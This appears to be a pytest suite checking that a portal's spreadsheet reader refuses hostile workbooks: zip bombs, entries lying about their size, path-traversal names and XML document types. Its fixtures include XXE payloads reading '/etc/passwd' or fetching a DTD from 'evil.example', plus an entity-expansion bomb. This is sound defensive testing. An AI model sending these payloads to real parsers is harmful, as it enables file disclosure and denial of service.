"""Workbooks built to harm whoever opens them are refused, cheaply, with a sentence."""

import io
import os
import struct
import subprocess
import sys
import zipfile
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.exports.archives import Limits, copy_clean
from portal.exports.books import read_book
from portal.exports.refusals import BookRefused, Disguised, TooLarge, Unreadable
from tests.exports.workbooks import PARTS, SHEET, sheet, text, workbook

ONE = f'<row r="1">{text("A1", "x")}</row>'
MB = 1024 * 1024


def rows(file, **limits):
    return list(read_book(file, limits=Limits(**limits)))


def test_a_part_that_unpacks_a_thousandfold_is_refused():
    with pytest.raises(Disguised, match="not opened"):
        rows(workbook(ONE, parts={SHEET: sheet(ONE) + " " * 20 * MB}))


def test_a_part_nobody_reads_may_not_be_a_bomb_either():
    with pytest.raises(Disguised):
        rows(workbook(ONE, parts={"xl/media/image1.png": b"\0" * 20 * MB}))


def test_honest_size_beyond_the_limit_is_called_large():
    noise = os.urandom(3 * MB)
    with pytest.raises(TooLarge, match="2 MB"):
        rows(workbook(ONE, parts={"xl/media/a.png": noise}), max_unzipped=2 * MB)


def lying(file, *, name, size, check=None):
    """The same archive, in which an entry says another size of itself (and another checksum)."""
    data = bytearray(file.getvalue())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        entry = archive.getinfo(name)
    place = data.index(b"PK\x01\x02")
    while data[place + 46 : place + 46 + len(name)] != name.encode():
        place = data.index(b"PK\x01\x02", place + 4)
    for start, shift in ((place, 16), (entry.header_offset, 14)):
        if check is not None:
            struct.pack_into("<I", data, start + shift, check)
        struct.pack_into("<I", data, start + shift + 8, size)
    return io.BytesIO(data)


def test_an_entry_that_lies_about_its_size_gets_no_further_than_it_says():
    body = sheet(ONE)
    file = workbook(parts={SHEET: body + " " * 30 * MB})
    with pytest.raises(Unreadable):
        rows(lying(file, name=SHEET, size=len(body)))
    # Even with the checksum of what it says it is: the reader gets only that much.
    honest = lying(file, name=SHEET, size=len(body), check=zlib.crc32(body.encode()))
    out = io.BytesIO()
    copy_clean(honest, out, limits=Limits())
    with zipfile.ZipFile(out) as clean:
        assert clean.getinfo(SHEET).file_size == len(body)


def test_the_reader_gets_the_few_parts_a_table_needs():
    out = io.BytesIO()
    extra = {
        "xl/vbaProject.bin": b"x",
        "xl/externalLinks/externalLink1.xml": "<a/>",
        "../../a": "x",
    }
    assert copy_clean(workbook(ONE, parts=extra), out, limits=Limits())[0] == "S"
    with zipfile.ZipFile(out) as clean:
        assert sorted(clean.namelist()) == sorted([*PARTS, SHEET])


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused():
    file = workbook(ONE)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(SHEET.replace("sheet1", "SHEET1"), sheet(""))
    with pytest.raises(Disguised):
        rows(file)


def test_half_a_million_entries_are_refused_before_they_are_listed():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for n in range(30_000):
            archive.writestr(f"{n}", b"")
    with pytest.raises(Disguised):
        rows(file)


def test_a_locked_workbook_is_refused_with_a_way_on():
    file = workbook(ONE)
    data = bytearray(file.getvalue())
    place = data.index(b"PK\x01\x02")
    data[place + 8] |= 1
    with pytest.raises(Unreadable, match="password"):
        rows(io.BytesIO(data))


SECRET = "file:///etc/passwd"
DOCTYPES = [
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "{SECRET}">]>',
    f'<!DOCTYPE x SYSTEM "{SECRET}">',
    '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>',
    '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    "<!DOCTYPE x>",
]


@pytest.mark.parametrize("doctype", DOCTYPES)
@pytest.mark.parametrize("declared", ["", '<?xml version="1.0" encoding="UTF-8"?>'])
def test_a_document_type_in_a_sheet_is_refused(doctype, declared):
    body = sheet(f'<row r="1">{text("A1", "&e;")}</row>', head=declared + doctype)
    with pytest.raises(Disguised, match="document type"):
        rows(workbook(parts={SHEET: body}))


@pytest.mark.parametrize("part", [*PARTS, "xl/sharedStrings.xml", "xl/styles.xml"])
def test_a_document_type_in_any_part_is_refused(part):
    body = DOCTYPES[0] + PARTS.get(part, "<x/>")
    with pytest.raises(Disguised, match="document type"):
        rows(workbook(ONE, parts={part: body}))


def test_a_document_type_in_another_encoding_is_refused():
    body = f'<?xml version="1.0" encoding="UTF-16"?>{DOCTYPES[0]}{sheet(ONE)}'.encode("utf-16")
    with pytest.raises(Disguised):
        rows(workbook(parts={SHEET: body}))


def test_an_entity_without_its_declaration_is_refused():
    with pytest.raises(Unreadable):
        rows(workbook(f'<row r="1">{text("A1", "&e;")}</row>'))


def test_two_cells_at_the_ends_of_the_sheet_are_no_table():
    far = ONE + f'<row r="1048576">{text("J1048576", "x")}</row>'
    with pytest.raises(TooLarge, match="1048576"):
        rows(workbook(far))
    with pytest.raises(TooLarge, match="columns"):
        rows(workbook(ONE + f'<row r="2">{text("XFD2", "x")}</row>'))


def test_rows_out_of_order_are_refused_for_they_could_not_be_counted():
    with pytest.raises(Unreadable):
        rows(workbook(f'<row r="2">{text("A2", "x")}</row>{ONE}'))


@pytest.mark.parametrize(
    ("tail", "said"),
    [
        ('<mergeCell ref="A1:A1048576"/>', "unmerge"),
        ('<mergeCell ref="A1:Z50000"/>' * 5, "unmerge"),
    ],
)
def test_merged_cells_without_end_are_refused(tail, said):
    with pytest.raises(TooLarge, match=said):
        rows(workbook(ONE, tail=f"<mergeCells>{tail}</mergeCells>"))


def test_formulas_without_end_are_refused():
    many = "".join(f'<c r="A1"><f t="array" ref="A{n}:J{n + 999}">1</f></c>' for n in range(1, 60))
    with pytest.raises(TooLarge, match="formulas"):
        rows(workbook(f'<row r="1">{many}</row>'))


def test_the_size_a_sheet_declares_is_not_believed():
    body = sheet(ONE).replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')
    assert [row.cells for row in rows(workbook(parts={SHEET: body}))] == [("x",)]


@pytest.mark.parametrize(
    "row",
    [
        f'<row r="1">{text("A0", "x")}</row>',
        f'<row r="1">{text("AAAA1", "x")}</row>',
        f'<row r="1">{text("A9999999", "x")}</row>',
        f'<row r="99999999999999999999">{text("A1", "x")}</row>',
        f'<row r="-1">{text("A1", "x")}</row>',
        '<row r="1"><c r="A1"',
        '<row r="1"><c r="A1" t="s"><v>99</v></c></row>',
    ],
)
def test_addresses_that_do_not_exist_are_refused(row):
    with pytest.raises(Unreadable):
        rows(workbook(row))


@pytest.mark.parametrize("missing", PARTS)
def test_a_workbook_without_one_of_its_parts_is_refused(missing):
    file = io.BytesIO()
    with zipfile.ZipFile(workbook(ONE)) as whole, zipfile.ZipFile(file, "w") as archive:
        for name in whole.namelist():
            if name != missing:
                archive.writestr(name, whole.read(name))
    with pytest.raises(Unreadable):
        rows(file)


WHOLE = workbook(f'{ONE}<row r="2"><c r="B2"><f>A1</f><v>3</v></c></row>').getvalue()


@given(st.lists(st.tuples(st.floats(0, 1), st.binary(min_size=1, max_size=4)), max_size=6))
@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_broken_workbook_is_read_or_refused_and_nothing_else(blows):
    data = bytearray(WHOLE)
    for where, what in blows:
        start = int(where * (len(data) - 1))
        data[start : start + len(what)] = what
    try:
        found = rows(io.BytesIO(data))
    except BookRefused as refused:
        assert refused.sentence  # noqa: PT017 - either outcome is right
    else:
        assert isinstance(found, list)


@given(st.lists(st.tuples(st.floats(0, 1), st.binary(min_size=1, max_size=4)), max_size=4))
@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
def test_a_broken_sheet_is_read_or_refused_and_nothing_else(blows):
    data = bytearray(sheet(f'{ONE}<row r="2"><c r="B2" t="s"><v>3</v></c></row>').encode())
    for where, what in blows:
        start = int(where * (len(data) - 1))
        data[start : start + len(what)] = what
    try:
        rows(workbook(parts={SHEET: bytes(data)}))
    except BookRefused as refused:
        assert refused.sentence  # noqa: PT017 - either outcome is right


MEASURE = """
import io, sys, time
from pathlib import Path
import django
django.setup()
from portal.exports.books import read_book
from portal.exports.refusals import BookRefused
def peak():
    return int(Path("/proc/self/status").read_text().split("VmHWM:")[1].split()[0])
before, start = peak(), time.process_time()
try:
    said = str(sum(1 for _row in read_book(open(sys.argv[1], "rb"))))
except BookRefused as refused:
    said = type(refused).__name__
print(said, (peak() - before) // 1024, time.process_time() - start)
"""


def million_rows():
    """Under 10 MB of file; a plain reader makes a million rows of it."""
    return "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 1_000_001))


def full():
    """As much as is read: every row of it filled."""
    return "".join(
        f'<row r="{n}">' + "".join(f'<c r="{c}{n}"><v>{n}</v></c>' for c in "ABCDEFGH") + "</row>"
        for n in range(1, 100_001)
    )


@pytest.mark.drill
@pytest.mark.parametrize(
    ("make", "said", "megabytes", "seconds"),
    [
        (million_rows, "TooLarge", 20, 5),
        (lambda: ONE + " " * 120 * MB, "Disguised", 20, 2),
        (lambda: ONE + f'<row r="100000">{text("AX100000", "x")}</row>', "2", 200, 5),
        (full, "100000", 150, 20),
    ],
    ids=["a million rows", "blanks", "two far cells", "as full as allowed"],
)
def test_no_workbook_takes_the_memory_of_the_house(tmp_path, make, said, megabytes, seconds):
    path = tmp_path / "book.xlsx"
    path.write_bytes(workbook(make()).getvalue())
    asked = subprocess.run(
        [sys.executable, "-c", MEASURE, path],
        env=os.environ | {"DJANGO_SETTINGS_MODULE": "portal.settings"},
        capture_output=True,
        text=True,
        check=True,
    )
    answer, used, took = asked.stdout.split()
    print(asked.stdout)
    assert answer == said
    assert int(used) < megabytes
    assert float(took) < seconds
